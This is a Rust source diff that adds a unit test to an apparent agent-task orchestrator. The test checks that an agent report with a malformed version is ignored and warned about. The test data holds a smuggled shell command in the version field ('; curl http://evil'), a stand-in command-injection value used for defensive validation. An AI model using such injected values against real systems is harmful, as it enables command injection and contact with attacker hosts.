@@ -766,3 +766,46 @@ fn a_queued_gateway_task_shows_no_usage() {
     let plan = decide(&task(json!({}), json!({})), &obs, &t(0));
     assert!(plan.status.usage.is_none());
 }
+
+/// An agent's report out of form (its version or cost) is recorded
+/// nowhere: no version, no reported usage, a warning Event
+/// saying why; the phase goes on.
+#[test]
+fn an_ignored_agent_report_is_recorded_nowhere_and_warned_about() {
+    let ignored = ok(StepResult::Collected(Collected {
+        head_commit: HEAD.into(),
+        commits: 1,
+        diff: DiffStats::default(),
+        out_of_scope: vec![],
+        agent: Some(AgentReport {
+            turns: 9,
+            // Decoded as the operator reads it: out of form, so ignored.
+            version: Some("2.1.197; curl http://evil".into()),
+            ..AgentReport::default()
+        }),
+        truncated: false,
+    }));
+    let obs = observed(vec![
+        ((RunPhase::Prepare, 1), prepared()),
+        ((RunPhase::Implement, 1), ignored),
+    ]);
+    let (task, plans) = settle(task(json!({}), json!({})), &obs, &t(0));
+    assert_eq!(phase(&task), Some(TaskPhase::Reviewing));
+    let status = task.status.as_ref().expect("status");
+    assert_eq!(status.agent_version, None);
+    assert!(
+        status
+            .usage
+            .as_ref()
+            .is_none_or(|u| u.reported.is_none() && u.turns == 0),
+        "{:?}",
+        status.usage
+    );
+    let warned: Vec<_> = plans
+        .iter()
+        .flat_map(|p| &p.events)
+        .filter(|e| e.reason == "AgentReportIgnored")
+        .collect();
+    assert_eq!(warned.len(), 1, "{warned:?}");
+    assert!(warned[0].warning && warned[0].note.contains("its version is not a version"));
+}
